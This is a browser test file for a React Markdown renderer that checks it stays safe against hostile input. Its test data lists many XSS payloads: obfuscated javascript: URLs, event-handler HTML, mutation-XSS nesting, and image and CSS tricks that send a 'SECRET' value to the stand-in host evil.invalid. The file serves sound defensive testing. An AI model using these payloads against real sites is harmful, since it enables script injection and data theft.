import { createRoot, type Root } from 'react-dom/client';
import { flushSync } from 'react-dom';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { footnotes } from '../footnotes/index.js';
import { math } from '../math/index.js';
import { Markdown } from './Markdown.js';
import type { MarkdownComponents } from './types.js';

declare global {
  interface Window {
    pwned?: unknown;
  }
}

const SCRIPT = 'window.pwned=1';
const EVIL = 'https://evil.invalid/?d=SECRET';
const SCHEMES = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  ` javascript:${SCRIPT}`,
  `java\tscript:${SCRIPT}`,
  `java&Tab;script:${SCRIPT}`,
  `java&NewLine;script:${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`,
  `&#x6A;avascript&colon;${SCRIPT}`,
  `\u0001javascript:${SCRIPT}`,
  `javascript&#58;${SCRIPT}`,
  `vbscript:${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `data:image/svg+xml,<svg onload="${SCRIPT}">`,
  `blob:https://a/b`,
  `file:///etc/passwd`,
  `view-source:javascript:${SCRIPT}`,
  `feed:javascript:${SCRIPT}`,
  `about:blank`,
  `intent://x`,
  `ms-word:x`,
];
const HTML = [
  `<script>${SCRIPT}</script>`,
  `<img src=x onerror="${SCRIPT}">`,
  `<svg onload="${SCRIPT}"><animate onbegin=${SCRIPT} attributeName=x></svg>`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<details open ontoggle="${SCRIPT}">x</details>`,
  `<style>@import url(${EVIL});</style>`,
  `<link rel=stylesheet href=${EVIL}><base href=${EVIL}><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<math><mtext><table><mglyph><style><img src onerror=${SCRIPT}></style></mglyph></table></mtext></math>`,
  `<a href="javascript:${SCRIPT}" id=x autofocus onfocus=${SCRIPT} tabindex=1>x</a>`,
  `<form action=${EVIL}><button>x</button></form><video src=${EVIL} autoplay></video>`,
  `</p></div><img src=${EVIL}>`,
  `a <kbd onclick="${SCRIPT}" style="background:url(${EVIL})">x</kbd> <sub onmouseover=${SCRIPT}>y</sub>`,
  `<br onload=${SCRIPT}><br/onfocus=${SCRIPT} autofocus><u\tonclick=${SCRIPT}>z</u>`,
  `<mark><img src=${EVIL}></mark> <sup><script>${SCRIPT}</script></sup> <ins><a href="javascript:${SCRIPT}">a</a></ins>`,
  `<details>\n<summary onclick=${SCRIPT}><svg onload=${SCRIPT}></summary>\n\n<img src=${EVIL}>\n\n</details>`,
  `<details><summary>[x](javascript:${SCRIPT}) ![y](${EVIL})</summary>\n<iframe src=${EVIL}></iframe>\n</details>`,
  `<details open style="background:url(${EVIL})" ontoggle=${SCRIPT}>\n\n<summary>x</summary>\n\n</details>`,
  `<!-- <script>${SCRIPT}</script> --><img src=${EVIL}>\n\n<!--><script>${SCRIPT}</script>-->`,
  `<SUB/onclick=${SCRIPT}>x</SUB><small/**/onclick=${SCRIPT}>x</small><del id=a name=b class=c>x</del>`,
];
const IMAGES = [
  `![a](${EVIL})`,
  `![a][r]\n\n[r]: ${EVIL}`,
  `[![a](${EVIL})](https://x.invalid)`,
  `![a](//evil.invalid/x)`,
  `![a](\\\\evil.invalid/x)`,
  `![a](/\\evil.invalid/x)`,
  `![a](https:evil.invalid/x)`,
  `![a](<https://evil.invalid/ x>)`,
  `![a](data:image/svg+xml,<svg/onload=${SCRIPT}>)`,
  `| ![a](${EVIL}) |\n|---|\n| ![b](${EVIL}) |`,
  `- ![a](${EVIL})\n\n> ![a](${EVIL})`,
  `[^1]\n\n[^1]: ![a](${EVIL})`,
  `![a](https://own.invalid@evil.invalid/x)`,
  `![a](https://evil%2einvalid/SECRET)`,
  `![a](///evil.invalid/SECRET)`,
  `![a](/\t/evil.invalid/SECRET)`,
  `![a](<\t//evil.invalid/SECRET>)`,
  `![a](&#47;&#47;evil.invalid/SECRET)`,
  `![a](&sol;&Tab;&sol;evil.invalid/SECRET)`,
  `![a](https&colon;//evil.invalid/SECRET)`,
  `![a](http:evil.invalid/SECRET)`,
  `![a](https://evil。invalid/SECRET)`,
  `![a](https://ｅvil.invalid/SECRET)`,
  `![a](ftp://evil.invalid/SECRET)`,
  `![a](blob:https://evil.invalid/SECRET)`,
  `![a](/own.png "x" srcset=${EVIL})`,
  `![a](/own.png,${EVIL}%202x)`,
  `[a](//evil.invalid/SECRET "title")`,
  `<https://SECRET.evil.invalid>  www.SECRET.evil.invalid`,
];
const STYLES = [
  `<p style="background:url(${EVIL})">x</p>`,
  `**bold**{style="background:url(${EVIL})"}`,
  `# a {#id .cls style="background:url(${EVIL})"}`,
  `| a |\n|:-:|\n| url(${EVIL}) |`,
  `\`\`\`css\n@import url(${EVIL}); a{background:url(${EVIL})}\n\`\`\``,
  `\`\`\`html title="${EVIL}"\n<img src=${EVIL}>\n\`\`\``,
  `\`\`\`${EVIL}\nx\n\`\`\``,
  `<link rel=prefetch href=${EVIL}>\n\n<link rel=dns-prefetch href=//evil.invalid>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}"]}]}</script>`,
  `[x]: ${EVIL}\n\n![x] ![y][x] [![x]][x]`,
  `$\\includegraphics{${EVIL}}$ \\(\\htmlStyle{background:url(${EVIL})}{x}\\)`,
];
const OTHER = [
  `$\\href{javascript:${SCRIPT}}{x}$ $\\includegraphics{${EVIL}}$ $\\url{${EVIL}}$`,
  `$$\n\\class{x" onclick="${SCRIPT}}{y}\n$$`,
  `$\\style{background:url(${EVIL})}{x}$`,
  `\`\`\`js" onload="${SCRIPT}\n<script>${SCRIPT}</script>\n\`\`\``,
  `[x](https://a.invalid "\\" onclick=\\"${SCRIPT}")`,
  `![x" onerror="${SCRIPT}](/own.png)`,
  `<javascript:${SCRIPT}>`,
  `[x]: javascript:${SCRIPT}\n\n[x]`,
  `> [!NOTE]\n> <img src=${EVIL}> [x](javascript:${SCRIPT})`,
  `$\\newcommand{\\x}{\\href{javascript:${SCRIPT}}{y}}\\x$ $\\def\\i{\\includegraphics{${EVIL}}}\\i$`,
  `\\begin{align}\n\\style{position:fixed;top:0;background:url(${EVIL})}{x}\n\\end{align}`,
  `\`\`\`math\n\\class{a" onclick="${SCRIPT}}{x} \\htmlData{a=b}{y}\n\`\`\``,
  `https://x.invalid/"onmouseover="${SCRIPT} http://localhost:1/<script>${SCRIPT}</script>`,
];
const VECTORS = [
  ...SCHEMES.flatMap((url) => [`[x](${url})`, `[x](<${url}>)`, `![x](${url})`, `<${url}>`]),
  ...HTML,
  ...IMAGES,
  ...STYLES,
  ...OTHER,
];

/** Where else an address can be. */
const PLACES: readonly ((url: string) => string)[] = [
  (url) => `# [x](${url})`,
  (url) => `> [x](${url}) ![x](${url})`,
  (url) => `> [!WARNING]\n> **[x](${url})**`,
  (url) => `- [ ] [x](${url})\n  1. ![x](${url})`,
  (url) => `| [x](${url}) | ![x](${url}) |\n| - | - |\n| <${url}> | [x](<${url}>) |`,
  (url) => `[x] and ![x]\n\n[x]: ${url}`,
  (url) => `[x][y] and ![x][y]\n\n[y]: <${url}> "${url}"`,
  (url) => `[^1]\n\n[^1]: [x](${url}) ![x](${url})`,
  (url) => `[![x](${url})](${url})`,
  (url) => `<a href="${url}">x</a> <a href='${url}'>x</a> <a href=${url}>x</a>`,
  (url) => `<img src="${url}" srcset="${url} 2x"> <object data="${url}"></object>`,
  (url) => `<details><summary>[x](${url})</summary>\n\n[x](${url}) ![x](${url})\n\n</details>`,
  (url) => `$\\href{${url}}{x}$ \\(\\url{${url}}\\)`,
];

const ALLOWED = new Set(['http:', 'https:', 'mailto:']);
const plugins = [math(), footnotes()];
let host: HTMLElement;
let root: Root;

/** Requests that left for another origin, by the browser's own record. */
function foreignRequests(): string[] {
  return performance
    .getEntriesByType('resource')
    .map((entry) => entry.name)
    .filter((name) => /evil|SECRET|\.invalid/.test(name));
}

function check(vector: string): void {
  expect(window.pwned, `${vector}`).toBeUndefined();
  expect(
    host.querySelectorAll('script, iframe, object, embed, form, style, link, meta, base, video, svg').length,
    `${vector}`,
  ).toBe(0);
  for (const element of host.querySelectorAll('*')) {
    for (const { name } of element.attributes) expect(name.startsWith('on'), `${name} in ${vector}`).toBe(false);
  }
  for (const link of host.querySelectorAll<HTMLAnchorElement>('a[href]')) {
    expect(ALLOWED.has(link.protocol), `${link.href} in ${vector}`).toBe(true);
  }
  for (const image of host.querySelectorAll('img'))
    expect(new URL(image.src).origin, `${vector}`).toBe(location.origin);
}

beforeEach(() => {
  host = document.body.appendChild(document.createElement('div'));
  // A link that is clicked opens a tab, and a page behind another has no frames: all later tests would wait for each.
  host.addEventListener('click', (event) => event.preventDefault());
  root = createRoot(host);
  delete window.pwned;
});
afterEach(() => {
  root.unmount();
  host.remove();
  vi.restoreAllMocks();
});

describe('hostile content in a real browser', () => {
  it('runs no script, opens no dialog, asks no other origin: at the end and at every prefix', async () => {
    const dialogs = (['alert', 'confirm', 'prompt', 'open'] as const).map((name) =>
      vi.spyOn(window, name).mockImplementation(() => null as never),
    );
    performance.clearResourceTimings();
    performance.setResourceTimingBufferSize(5000);
    const play = (vector: string): void => {
      flushSync(() => root.render(<Markdown text={vector} plugins={plugins} />));
      check(vector);
      for (const link of host.querySelectorAll<HTMLElement>('a:not([href]), summary, span, p')) link.click();
      for (const element of host.querySelectorAll<HTMLElement>('*')) {
        for (const type of ['mouseover', 'focus', 'pointerenter', 'toggle'])
          element.dispatchEvent(new Event(type, { bubbles: true }));
      }
      check(vector);
    };
    for (const vector of VECTORS) {
      for (let length = 1; length <= vector.length; length++) {
        flushSync(() => root.render(<Markdown text={vector.slice(0, length)} streaming plugins={plugins} />));
        check(vector);
      }
      play(vector);
    }
    // Only whole: what a prefix changes is the same for every address.
    for (const place of PLACES) for (const url of SCHEMES) play(place(url));
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    expect(window.pwned).toBeUndefined();
    for (const dialog of dialogs) expect(dialog).not.toHaveBeenCalled();
    expect(foreignRequests()).toEqual([]);
  });

  it('works where the page allows neither inline styles nor markup from strings', async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
    const frame = document.body.appendChild(document.createElement('iframe'));
    const inner = frame.contentDocument;
    if (inner === null) throw new Error('no document in the frame');
    inner.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
    const policy = inner.head.appendChild(inner.createElement('meta'));
    policy.httpEquiv = 'Content-Security-Policy';
    policy.content = "default-src 'none'; style-src 'self'; img-src 'self'; require-trusted-types-for 'script'";
    const place = inner.body.appendChild(inner.createElement('div'));
    const framed = createRoot(place);
    const text =
      '# A\n\n| a |\n|:-:|\n| b |\n\n```js\nx\n```\n\n$x^2$ [^1] ![i](https://evil.invalid/x) <b>\n\n[^1]: n';
    for (let length = 1; length <= text.length; length++) {
      flushSync(() => framed.render(<Markdown text={text.slice(0, length)} streaming plugins={plugins} />));
    }
    flushSync(() => framed.render(<Markdown text={text} plugins={plugins} />));
    await vi.waitFor(() => expect(place.innerHTML).toContain('<math'), 8000);
    expect(place.querySelector('td')?.textContent).toBe('b');
    expect(violations).toEqual([]);
    framed.unmount();
    frame.remove();
  });
});

describe('what the reader has done', () => {
  it('survives further text: selection, scroll of code, pressed buttons', () => {
    const text = `First paragraph to select.\n\n\`\`\`js\n${'const a = 1; '.repeat(60)}\n\`\`\`\n\n`;
    flushSync(() => root.render(<Markdown text={text} streaming />));
    const paragraph = host.querySelector('p')?.firstChild;
    const pre = host.querySelector('pre');
    if (!paragraph || pre === null) throw new Error('nothing rendered');
    pre.style.overflow = 'auto';
    pre.style.width = '200px';
    pre.scrollLeft = 120;
    document.getSelection()?.setBaseAndExtent(paragraph, 6, paragraph, 15);
    for (let count = 1; count <= 50; count++) {
      flushSync(() => root.render(<Markdown text={`${text}${'- more **text**\n'.repeat(count)}`} streaming />));
    }
    expect(document.getSelection()?.toString()).toBe('paragraph');
    expect(host.querySelector('pre')).toBe(pre);
    expect(pre.scrollLeft).toBe(120);
  });

  it('survives in what is still growing: selection, focus, an open <details>; and the text can be found', () => {
    const components: MarkdownComponents = {
      'language-log': ({ code }) => (
        <details>
          <summary>Log</summary>
          {code}
        </details>
      ),
    };
    const text = '```log\nline\n```\n\n```js\nlet a;\n```\n\n- first **bold** words\n- second';
    const view = (more: string): void =>
      flushSync(() => root.render(<Markdown text={text + more} components={components} streaming />));
    view('');
    const details = host.querySelector('details');
    const button = host.querySelector<HTMLElement>('.cs-md-code button');
    const bold = host.querySelector('li strong')?.firstChild;
    if (details === null || button === null || !bold) throw new Error('nothing rendered');
    details.open = true;
    button.focus();
    document.getSelection()?.setBaseAndExtent(bold, 1, bold, 4);
    const more =
      ' and more [link](https://a.example) \n\n- now it is loose\n\n  with a second paragraph\n\n| a |\n|---|\n| needle |\n';
    for (let length = 1; length <= more.length; length++) view(more.slice(0, length));
    expect(details.isConnected && details.open).toBe(true);
    expect(document.activeElement).toBe(button);
    expect(document.getSelection()?.toString()).toBe('old');
    expect(host.querySelector('ul')?.hasAttribute('data-loose')).toBe(true);
    expect(host.querySelector('td')?.checkVisibility()).toBe(true);
    expect((window as Window & { find?: (text: string) => boolean }).find?.('needle')).toBe(true);
    expect(document.getSelection()?.toString()).toBe('needle');
  });
});
